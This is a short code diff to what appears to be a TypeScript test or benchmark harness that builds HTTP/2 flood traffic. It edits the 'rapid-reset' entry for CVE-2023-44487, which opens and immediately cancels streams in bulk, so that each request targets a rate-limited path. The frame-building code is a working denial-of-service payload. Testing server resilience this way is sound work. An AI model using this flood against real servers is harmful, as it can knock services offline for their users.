@@ -16,11 +16,14 @@ const CANCEL = 8
 
 /** Floods over HTTP/2, by name. */
 export const HTTP2_FLOODS: Readonly<Record<string, Flood>> = {
-  /** CVE-2023-44487: streams that are opened only to be reset. */
+  /** CVE-2023-44487: streams that are opened only to be reset. Each is a request, so that a rate limit has a say. */
   'rapid-reset': overSessions((turn) =>
     many(100, (index) => {
       const stream = 2 * (turn * 100 + index) + 1
-      return Buffer.concat([getFrame(stream), frame(TYPE.resetStream, FLAG.none, stream, word(CANCEL))])
+      return Buffer.concat([
+        getFrame(stream, '/limited'),
+        frame(TYPE.resetStream, FLAG.none, stream, word(CANCEL))
+      ])
     })
   ),
 
